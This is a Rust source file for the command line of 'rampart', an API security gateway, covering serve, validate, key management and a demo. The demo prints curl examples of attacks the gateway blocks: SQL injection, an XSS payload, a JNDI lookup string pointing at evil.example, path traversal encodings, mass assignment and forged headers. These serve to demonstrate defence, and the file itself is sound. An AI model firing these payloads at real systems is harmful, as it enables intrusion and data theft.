//! `rampart`: the command line. Wiring only — every decision lives in the gateway crate.

use anyhow::{Context, Result};
use clap::{Parser, Subcommand};
use gateway::config::Source;
use gateway::server::{Gateway, StartOptions};
use std::net::SocketAddr;
use std::path::PathBuf;

/// mimalloc: the request path allocates small short-lived buffers; glibc malloc showed up at ~6% of CPU in
/// profiles of the proxy under load.
#[global_allocator]
static GLOBAL: mimalloc::MiMalloc = mimalloc::MiMalloc;

const EXAMPLES: &str = "\
Examples:
  rampart demo                                   # gateway + sample API, with curl lines to try
  rampart serve --upstream http://127.0.0.1:9000 # protect one API, no config file
  rampart serve --config examples/quickstart.yaml
  rampart validate examples/quickstart.yaml      # exit 1 with file:line:column errors
  rampart keys add --file keys.yaml --consumer billing --scope orders:read   # prints the new key once";

#[derive(Parser)]
#[command(name = "rampart", version, about = "Rampart: an API security gateway", after_help = EXAMPLES)]
struct Cli {
    #[command(subcommand)]
    command: Command,
}

#[derive(Subcommand)]
enum Command {
    /// Run the gateway, from a config file or in front of one upstream.
    #[command(after_help = EXAMPLES)]
    Serve {
        /// YAML configuration file (reloaded on SIGHUP and when it changes).
        #[arg(long, short, conflicts_with = "upstream", required_unless_present = "upstream")]
        config: Option<PathBuf>,
        /// Reload only on SIGHUP, not when the config file or its certificates change.
        #[arg(long, requires = "config")]
        no_watch: bool,
        /// Protect this one API with the default protections, no config file needed.
        #[arg(long)]
        upstream: Option<String>,
        /// Address to listen on with --upstream.
        #[arg(long, default_value = "127.0.0.1:8080", requires = "upstream")]
        listen: SocketAddr,
        /// Admin listener (metrics, health) with --upstream.
        #[arg(long, requires = "upstream")]
        admin: Option<SocketAddr>,
    },
    /// Compile a configuration without serving; print every error as file:line:column.
    Validate { file: PathBuf },
    /// Manage an API keys file (SHA-256 hashes only; a secret is printed once, by `add`).
    Keys {
        #[command(subcommand)]
        action: KeysAction,
    },
    /// Start the built-in sample API and the gateway in front of it, and print what to try.
    Demo {
        #[arg(long, default_value = "127.0.0.1:8080")]
        listen: SocketAddr,
        #[arg(long, default_value = "127.0.0.1:9901")]
        admin: SocketAddr,
    },
}

#[derive(Subcommand)]
enum KeysAction {
    /// Make a new key; prints its secret once (only its hash is stored).
    Add {
        #[arg(long)]
        file: PathBuf,
        /// The consumer the key identifies (passed upstream, used for limits and logs).
        #[arg(long)]
        consumer: String,
        /// A scope the key grants (repeat for more).
        #[arg(long = "scope")]
        scopes: Vec<String>,
        /// A role the key grants (repeat for more).
        #[arg(long = "role")]
        roles: Vec<String>,
        /// Lifetime (e.g. `90d`) or an RFC 3339 expiry time.
        #[arg(long)]
        expires: Option<String>,
    },
    /// List keys: id, consumer, grants, expiry, state — never secrets or hashes.
    List {
        #[arg(long)]
        file: PathBuf,
    },
    /// Disable a key by id (kept in the file so its later use is logged as revoked).
    Revoke {
        #[arg(long)]
        file: PathBuf,
        id: String,
    },
}

fn parse_expiry(text: &str) -> Result<std::time::SystemTime> {
    if let Ok(d) = humantime::parse_duration(text) {
        return Ok(std::time::SystemTime::now() + d);
    }
    humantime::parse_rfc3339_weak(text)
        .with_context(|| format!("--expires {text}: write a duration like 90d or an RFC 3339 time"))
}

fn keys(action: KeysAction) -> Result<()> {
    use gateway::stages::identify::api_key;
    match action {
        KeysAction::Add { file, consumer, scopes, roles, expires } => {
            let expires = expires.as_deref().map(parse_expiry).transpose()?;
            let key = api_key::add(&file, &consumer, scopes, roles, expires)?;
            println!("added key {} for consumer {} to {}", key.entry.id, consumer, file.display());
            println!("secret (shown once; only its SHA-256 is stored):\n{}", key.secret);
        }
        KeysAction::List { file } => {
            let f = api_key::read_file(&file)?;
            println!("{:<16} {:<20} {:<24} {:<16} {:<22} state", "id", "consumer", "scopes", "roles", "expires");
            let now = std::time::SystemTime::now();
            for k in &f.keys {
                let expired =
                    k.expires.as_deref().and_then(|t| humantime::parse_rfc3339_weak(t).ok()).is_some_and(|t| now >= t);
                let state = if k.disabled {
                    "revoked"
                } else if expired {
                    "expired"
                } else {
                    "active"
                };
                println!(
                    "{:<16} {:<20} {:<24} {:<16} {:<22} {state}",
                    k.id,
                    k.consumer,
                    k.scopes.join(","),
                    k.roles.join(","),
                    k.expires.as_deref().unwrap_or("-"),
                );
            }
        }
        KeysAction::Revoke { file, id } => {
            api_key::revoke(&file, &id)?;
            println!("revoked key {id} in {} (reloaded with the configuration)", file.display());
        }
    }
    Ok(())
}

fn init_logging() {
    use tracing_subscriber::EnvFilter;
    let filter = EnvFilter::try_from_env("RAMPART_LOG").unwrap_or_else(|_| EnvFilter::new("info"));
    tracing_subscriber::fmt()
        .json()
        .with_env_filter(filter)
        .with_writer(std::io::stderr)
        .with_current_span(false)
        .init();
}

/// A YAML double-quoted scalar.
fn quoted(s: &str) -> String {
    format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""))
}

fn upstream_config(upstream: &str, listen: SocketAddr, admin: Option<SocketAddr>) -> Result<String> {
    let uri: http::Uri = upstream.parse().with_context(|| format!("--upstream {upstream}: not a URL"))?;
    anyhow::ensure!(
        matches!(uri.scheme_str(), Some("http" | "https")) && uri.authority().is_some(),
        "--upstream {upstream}: write a URL like http://127.0.0.1:9000"
    );
    let mut text = format!(
        "listen: [{{ addr: {} }}]\nupstreams:\n  app: {{ targets: [{}] }}\nroutes:\n  - {{ id: all, path: \"/*\", methods: [ANY], upstream: app, auth: none }}\n",
        quoted(&listen.to_string()),
        quoted(upstream)
    );
    if let Some(a) = admin {
        text.push_str(&format!("admin: {{ addr: {} }}\n", quoted(&a.to_string())));
    }
    Ok(text)
}

async fn run(source: Source, watch: bool) -> Result<()> {
    let handle = Gateway::start(source, StartOptions { watch }).await?;
    for a in &handle.addrs {
        eprintln!("rampart listening on {a}");
    }
    wait_for_signals(&handle).await;
    Ok(())
}

#[cfg(unix)]
async fn wait_for_signals(handle: &gateway::GatewayHandle) {
    use tokio::signal::unix::{signal, SignalKind};
    let (Ok(mut hup), Ok(mut term), Ok(mut int)) =
        (signal(SignalKind::hangup()), signal(SignalKind::terminate()), signal(SignalKind::interrupt()))
    else {
        let _ = tokio::signal::ctrl_c().await;
        handle.shutdown().await;
        return;
    };
    loop {
        tokio::select! {
            _ = hup.recv() => { let _ = handle.reload().await; }
            _ = term.recv() => break,
            _ = int.recv() => break,
        }
    }
    tracing::info!(target: "rampart", "shutting down: draining connections");
    handle.shutdown().await;
}

#[cfg(not(unix))]
async fn wait_for_signals(handle: &gateway::GatewayHandle) {
    let _ = tokio::signal::ctrl_c().await;
    handle.shutdown().await;
}

/// The sample API's OpenAPI document, for the demo's positive model.
const SAMPLE_SPEC: &str = include_str!("../../../examples/specs/sample-api.yaml");

async fn demo(listen: SocketAddr, admin: SocketAddr) -> Result<()> {
    let (api, _task) = sample_api::spawn("127.0.0.1:0".parse()?).await.context("cannot start the sample API")?;
    // A fresh API key for this run: only its hash is written (to a private temp dir); the secret lives in
    // this process and the printed curl lines.
    let keys_dir = std::env::temp_dir().join(format!("rampart-demo-{}", std::process::id()));
    std::fs::create_dir_all(&keys_dir).context("cannot create the demo's keys folder")?;
    let keys_file = keys_dir.join("keys.yaml");
    let _ = std::fs::remove_file(&keys_file);
    let key =
        gateway::stages::identify::api_key::add(&keys_file, "demo-client", vec!["orders:read".into()], vec![], None)?;
    let reader =
        gateway::stages::identify::api_key::add(&keys_file, "catalog-bot", vec!["products:read".into()], vec![], None)?;
    let secret = key.secret;
    let wrong_scope = reader.secret;
    // The sample API's spec travels in the binary; the demo's routes validate against this copy.
    let spec_file = keys_dir.join("sample-api.yaml");
    std::fs::write(&spec_file, SAMPLE_SPEC).context("cannot write the demo's OpenAPI spec")?;
    let text = include_str!("demo.yaml")
        .replace("@KEYS@", &keys_file.display().to_string().replace('\\', "/"))
        .replace("@SPEC@", &spec_file.display().to_string().replace('\\', "/"))
        .replace("@LISTEN@", &listen.to_string())
        .replace("@ADMIN@", &admin.to_string())
        .replace("@UPSTREAM@", &format!("http://{api}"));
    let source = Source::Inline { name: "demo.yaml (embedded)".into(), text, base_dir: std::env::current_dir()? };
    let handle = Gateway::start(source, StartOptions::default()).await?;
    let g = handle.addrs.first().copied().unwrap_or(listen);
    println!(
        "\nRampart demo: gateway on http://{g}, sample API on http://{api} (admin: http://{admin})\n\n\
Legitimate calls pass:\n  \
curl -i http://{g}/users/2\n  \
curl -i http://{g}/products\n  \
curl -i -X POST http://{g}/users -H 'content-type: application/json' -d '{{\"name\":\"Grace\",\"email\":\"grace@example.com\",\"password\":\"correct horse\"}}'   # 201; the writeOnly password is not echoed\n  \
curl -i http://{g}/orders -H 'X-API-Key: {secret}'   # API key made at startup (consumer demo-client)\n\n\
Attacks and mistakes are stopped (problem+json with a stable code; 401s say only auth.failed, the log says why):\n  \
curl -i http://{g}/orders                                   # auth.missing: orders need an API key\n  \
curl -i http://{g}/orders -H 'X-API-Key: rk_made_up_key'    # auth.key.invalid\n  \
curl -i http://{g}/orders -H 'X-API-Key: {wrong_scope}'   # authz.scope: this key lacks orders:read\n  \
curl -i http://{g}/orders/100 -H 'X-API-Key: {secret}' -H 'X-Consumer-Id: admin'   # forged identity header dropped; upstream sees X-Rampart-Consumer\n  \
curl -i \"http://{g}/products?q=1%27%20UNION%20SELECT%20password%20FROM%20users--\"   # inspect.sqli\n  \
curl -i -X POST http://{g}/users -H 'content-type: application/json' -d '{{\"name\":\"<img src=x onerror=alert(1)>\",\"email\":\"eve@example.com\",\"password\":\"correct horse\"}}'   # inspect.xss\n  \
curl -i -X POST http://{g}/users -H 'content-type: application/json' -d '{{\"name\":\"Eve\",\"email\":\"eve@example.com\",\"password\":\"correct horse\",\"role\":\"admin\"}}'   # inspect.schema: mass assignment (role is readOnly in the spec)\n  \
curl -i 'http://{g}/users?limit=1000'                     # inspect.schema: the spec says limit is 1..100\n  \
curl -i 'http://{g}/users?debug=true'                     # inspect.schema: a query parameter the spec does not declare\n  \
curl -i http://{g}/users/1 -H 'User-Agent: ${{jndi:ldap://evil.example/x}}'   # inspect.jndi\n  \
curl -i http://{g}/internal/debug                          # route.not_found: undeclared endpoints don't exist\n  \
curl -i --path-as-is 'http://{g}/users/%2e%2e/internal/debug'  # resolved to /internal/debug first: still not found\n  \
curl -i --path-as-is 'http://{g}/users/..%2finternal/debug'    # admit.bad_path: ambiguous encodings are refused\n  \
curl -i -X DELETE http://{g}/users/1                       # route.method_not_allowed\n  \
head -c 10000 /dev/zero | curl -i -X POST http://{g}/users --data-binary @-   # admit.body_too_large\n  \
curl -i -H 'X-Forwarded-For: 1.2.3.4' http://{g}/users/1   # spoofed client IP is ignored (see the access log)\n\n\
Visibility:\n  \
curl http://{admin}/metrics\n  \
curl http://{admin}/readyz\n\n\
Access log on stdout, security events on stderr. Ctrl-C stops.\n"
    );
    wait_for_signals(&handle).await;
    let _ = std::fs::remove_dir_all(&keys_dir);
    Ok(())
}

fn main() -> Result<()> {
    let cli = Cli::parse();
    let cli = match cli.command {
        Command::Keys { action } => return keys(action),
        other => Cli { command: other },
    };
    if let Command::Validate { file } = &cli.command {
        let metrics = gateway::metrics::Metrics::new();
        return match gateway::config::load_file(file, &metrics) {
            Ok(rt) => {
                println!(
                    "{}: ok ({} listeners, {} upstreams, {} routes)",
                    file.display(),
                    rt.listeners.len(),
                    rt.upstreams.len(),
                    rt.routes.len()
                );
                Ok(())
            }
            Err(errors) => {
                eprintln!("{errors}");
                std::process::exit(1);
            }
        };
    }
    init_logging();
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    rt.block_on(async {
        match cli.command {
            Command::Serve { config: Some(path), no_watch, .. } => run(Source::File(path), !no_watch).await,
            Command::Serve { upstream: Some(u), listen, admin, .. } => {
                let text = upstream_config(&u, listen, admin)?;
                run(Source::Inline { name: "--upstream".into(), text, base_dir: std::env::current_dir()? }, false).await
            }
            Command::Serve { .. } => anyhow::bail!("give --config FILE or --upstream URL"),
            Command::Demo { listen, admin } => demo(listen, admin).await,
            Command::Validate { .. } | Command::Keys { .. } => Ok(()),
        }
    })
}
